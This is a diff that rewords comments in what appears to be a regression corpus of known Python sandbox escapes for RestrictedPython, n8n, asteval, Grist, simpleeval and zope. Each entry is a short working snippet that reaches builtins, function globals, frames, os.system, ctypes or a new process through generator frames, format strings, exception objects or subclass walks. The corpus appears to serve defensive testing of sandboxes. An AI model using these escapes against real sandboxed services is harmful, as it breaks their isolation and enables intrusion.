@@ -1,12 +1,12 @@
-# What got out of sandboxes of this kind: of RestrictedPython by its advisories, and of its neighbours.
+# Known escapes: advisories and audits of RestrictedPython, and advisories of similar sandboxes.
 
-#: CVE-2023-37271, in a comprehension: the builtins of the outermost frame
+#: CVE-2023-37271 in a comprehension: the builtins of the outermost frame
 frames = []
 generator = (generator.gi_frame.f_back for _ in (1,))
 frames = [frame for frame in generator]
 print('REACHED', frames[0].f_builtins['open'])
 
-#: CVE-2023-37271, in a function: the builtins of the frame that asks
+#: CVE-2023-37271 in a function: the builtins of the calling frame
 generator = None
 def walk():
     global found
@@ -16,17 +16,17 @@ generator = walk()
 generator.send(None)
 print('REACHED', found.f_builtins['__import__']('sys').modules)
 
-#: CVE-2023-37271, without a name to refuse: the frame
+#: CVE-2023-37271 with a concatenated name: the frame of a generator
 def count():
     yield 1
 frame = getattr(count(), 'gi' + '_' + 'frame')
 print('REACHED', frame)
 
-#: CVE-2023-37271, by its code: the code of a generator
+#: CVE-2023-37271 with the attribute gi_code: the code of a generator
 generator = (x for x in ())
 print('REACHED', generator.gi_code.co_code)
 
-#: CVE-2023-37271, from the inner generator: what it delegates to, and that one's frame
+#: CVE-2023-37271 with gi_yieldfrom: the frame of the inner generator
 def inner():
     yield 1
 def outer():
@@ -35,25 +35,25 @@ generator = outer()
 next(generator)
 print('REACHED', generator.gi_yieldfrom.gi_frame)
 
-#: CVE-2023-41039: the globals of a function, as text
+#: CVE-2023-41039 with format: the globals of a function as a string
 secret = 'kept'
 def f():
     pass
 print('REACHED', '{0.__globals__[secret]}'.format(f))
 
-#: CVE-2023-41039, by format_map: the globals of a function, as text
+#: CVE-2023-41039 with format_map: the globals of a function as a string
 secret = 'kept'
 def f():
     pass
 print('REACHED', '{f.__globals__[secret]}'.format_map({'f': f}))
 
-#: CVE-2023-41039, as a method of the class: the globals of a function, as text
+#: CVE-2023-41039 with str.format: the globals of a function as a string
 secret = 'kept'
 def f():
     pass
 print('REACHED', str.format('{0.__globals__[secret]}', f))
 
-#: CVE-2023-41039, as a method of a class of its own: the globals of a function, as text
+#: CVE-2023-41039 with a subclass of str: the globals of a function as a string
 class Text(str):
     pass
 secret = 'kept'
@@ -61,14 +61,14 @@ def f():
     pass
 print('REACHED', Text('{0.__globals__[secret]}').format(f))
 
-#: CVE-2023-41039, by the formatter: the globals of a function, as text
+#: CVE-2023-41039 with string.Formatter: the globals of a function as a string
 import string
 secret = 'kept'
 def f():
     pass
 print('REACHED', string.Formatter().format('{0.__globals__[secret]}', f))
 
-#: the release 7.2, a name that is no plain text: the globals of a function
+#: RestrictedPython 7.2, a name of a str subclass: the globals of a function
 class Name(str):
     def startswith(self, *prefix):
         return False
@@ -80,7 +80,7 @@ def f():
     pass
 print('REACHED', getattr(f, Name('__globals__')))
 
-#: the release 7.2, a name that is two names: the globals of a function
+#: RestrictedPython 7.2, a name whose hash changes: the globals of a function
 class Name(str):
     asked = 0
     def __str__(self):
@@ -105,7 +105,7 @@ try:
 except AttributeError as error:
     print('REACHED', error.obj._string)
 
-#: CVE-2024-47532, by the import statement: the loader of the module behind a facade
+#: CVE-2024-47532 with an imported module: the loader of the module behind a facade
 import math
 try:
     math.nothing
@@ -113,7 +113,7 @@ except AttributeError as error:
     loader = getattr(error.obj, '__loader' + '__')
     print('REACHED', loader.load_module)
 
-#: CVE-2024-47532, with what the strict profile has at hand: the excluded name of a facade
+#: CVE-2024-47532 in the strict profile: an excluded name of a facade
 #: only: strict
 import string
 try:
@@ -121,8 +121,8 @@ try:
 except AttributeError as error:
     print('REACHED', error.obj.Formatter)
 
-#: CVE-2025-22153, a group that splits wrongly: an exception that is none
-#: control: none, it brings down the versions that it concerns
+#: CVE-2025-22153, an exception group with an invalid split: an exception that is not an exception
+#: control: none, it crashes the affected versions
 class Group(ExceptionGroup):
     def split(self, condition):
         return 'no exception', None
@@ -135,7 +135,7 @@ except* ValueError:
         if not isinstance(error.__context__, BaseException):
             print('REACHED', error.__context__)
 
-#: CVE-2025-22153, a group of what it is not: the frame of a handler
+#: CVE-2025-22153, an exception group with a derive method: the frame of a handler
 class Group(ExceptionGroup):
     def derive(self, exceptions):
         return Group(self.message, exceptions)
@@ -146,7 +146,7 @@ except* ValueError as error:
 except* TypeError:
     pass
 
-#: CVE-2026-55830, a positional-only parameter: an attribute guard of its own
+#: CVE-2026-55830, a positional-only parameter: a guard of attributes
 #: control: hooks
 def mine(object, name):
     print('REACHED', name)
@@ -154,7 +154,7 @@ def read(value, _getattr_=mine, /):
     return value.upper
 read('')
 
-#: CVE-2026-55830, a positional-only parameter without a default: a write guard of its own
+#: CVE-2026-55830, a positional-only parameter without a default: a guard of writes
 #: control: hooks
 class Box:
     pass
@@ -165,13 +165,13 @@ def put(box, _write_, /):
     box.value = 1
 put(Box(), mine)
 
-#: CVE-2026-55830, a positional-only parameter of a lambda: an item guard of its own
+#: CVE-2026-55830, a positional-only parameter of a lambda: a guard of items
 #: control: hooks
 def mine(object, key):
     print('REACHED', key)
 (lambda value, _getitem_=mine, /: value['key'])({'key': 1})
 
-#: CVE-2026-55830, a positional-only parameter of a method: an iteration guard of its own
+#: CVE-2026-55830, a positional-only parameter of a method: a guard of iteration
 #: control: hooks
 def mine(iterable):
     print('REACHED', iterable)
@@ -181,26 +181,26 @@ class Loop:
         return [item for item in items]
 Loop().run([1])
 
-#: CVE-2026-76825: the globals of a function, alive
+#: CVE-2026-76825 with string.Formatter.get_field: the globals of a function
 import string
 def f():
     pass
 found, _ = string.Formatter().get_field('0.__globals__', (f,), {})
 print('REACHED', found['__builtins__'])
 
-#: CVE-2026-76825, in names that any program may use: the globals of a function, alive
+#: CVE-2026-76825 with get_field and permitted names: the globals of a function
 import string
 def f():
     pass
 result = string.Formatter().get_field('0.__globals__', [f], {})
 print('REACHED', result[0])
 
-#: CVE-2026-76825, by the method below: an argument through a formatter
+#: CVE-2026-76825 with vformat: an attribute of an argument
 #: only: strict
 import string
 print('REACHED', string.Formatter().vformat('{0.real}', [5], {}))
 
-#: CVE-2026-76825, by a class that inherits: the globals of a function, alive
+#: CVE-2026-76825 with a subclass of string.Formatter: the globals of a function
 import string
 class Keeper(string.Formatter):
     def format_field(self, value, spec):
@@ -212,31 +212,31 @@ def f():
 Keeper().format('{0.__globals__}', f)
 print('REACHED', kept[0])
 
-#: the audit of 8.5, an import that waits: a module that none may import
-#: control: none, the syntax is that of Python 3.15
+#: the audit of RestrictedPython 8.5, a lazy import: a module that is not allowed
+#: control: none, the syntax is new in Python 3.15
 lazy import os
 print('REACHED', os.getcwd)
 
-#: the audit of 8.5, a comprehension that unpacks: an iteration without its guard
+#: the audit of RestrictedPython 8.5, unpacking in a comprehension: unguarded iteration
 #: only: strict
-#: control: none, the syntax is that of Python 3.15
+#: control: none, the syntax is new in Python 3.15
 print('REACHED', [*x for x in [[1], [2]]])
 
-#: the audit of 8.5, the frame of an asynchronous generator: the globals
+#: the audit of RestrictedPython 8.5, the frame of an asynchronous generator: the globals
 async def count():
     yield 1
 print('REACHED', count().ag_frame.f_globals)
 
-#: the audit of 8.5, the code of an asynchronous generator: the code
+#: the audit of RestrictedPython 8.5, the code of an asynchronous generator: the code
 async def count():
     yield 1
 print('REACHED', getattr(count(), 'ag_' + 'code'))
 
-#: the release 9.0: iteration in native code
+#: RestrictedPython 9.0, bytes and sorted: iteration in native code
 #: only: strict
 print('REACHED', bytes([1, 2]), sorted([2, 1]))
 
-#: the release 9.0, in pairs: iteration in native code
+#: RestrictedPython 9.0, zip and reversed: iteration in native code
 #: only: strict
 for pair in zip([1], reversed([2])):
     print('REACHED', pair)
@@ -245,7 +245,7 @@ for pair in zip([1], reversed([2])):
 import ctypes
 print('REACHED', ctypes.CDLL(None).system)
 
-#: n8n CVE-2026-0863, a format that fails: the live object that it had walked to
+#: n8n CVE-2026-0863, an AttributeError of a format: an object that the format read
 def f():
     pass
 try:
@@ -253,7 +253,7 @@ try:
 except AttributeError as error:
     print('REACHED', error.obj.open)
 
-#: n8n CVE-2026-0863, by two formats: the live frame of a traceback
+#: n8n CVE-2026-0863, an AttributeError of a format: the frame of a traceback
 try:
     1 / 0
 except ZeroDivisionError as error:
@@ -264,32 +264,32 @@ except AttributeError as error:
     if error.obj is not None and error.obj is not traceback:
         print('REACHED', error.obj)
 
-#: asteval, a format in a mapping that fails: the live list of all classes' own method
+#: asteval, an AttributeError of a format_map: the method that lists all classes
 try:
     '{c.__subclasses__.nothing}'.format_map({'c': object})
 except AttributeError as error:
     if error.obj is not None and error.obj is not object:
         print('REACHED', error.obj())
 
-#: Grist CVE-2026-24002: a class of another module, and that module's globals
+#: Grist CVE-2026-24002: the globals of a class of another module
 import os
 for kind in ().__class__.__base__.__subclasses__():
     if kind.__name__ == '_wrap_close':
         print('REACHED', kind.__init__.__globals__['system'])
 
-#: simpleeval #138: a module through what another module holds
+#: simpleeval #138 with the globals of a function: a module
 import functools
 print('REACHED', functools.namedtuple.__globals__['_sys'].modules)
 
-#: simpleeval #138, by the name that a module gives another: a module through what another module holds
+#: simpleeval #138 with a private name of a module: a module
 import collections
 print('REACHED', getattr(collections, '_s' + 'ys').modules)
 
-#: zope #142, nothing but getattr: all classes
+#: zope #142 with getattr: all classes
 base = getattr(getattr((), '__cl' + 'ass__'), '__ba' + 'se__')
 print('REACHED', getattr(base, '__sub' + 'classes__')())
 
-#: zope #142, to the end: a process
+#: zope #142 with getattr: a new process
 base = getattr(getattr((), '__class__'), '__base__')
 for kind in getattr(base, '__subclasses__')():
     scope = getattr(getattr(kind, '__init__', None), '__globals__', {})
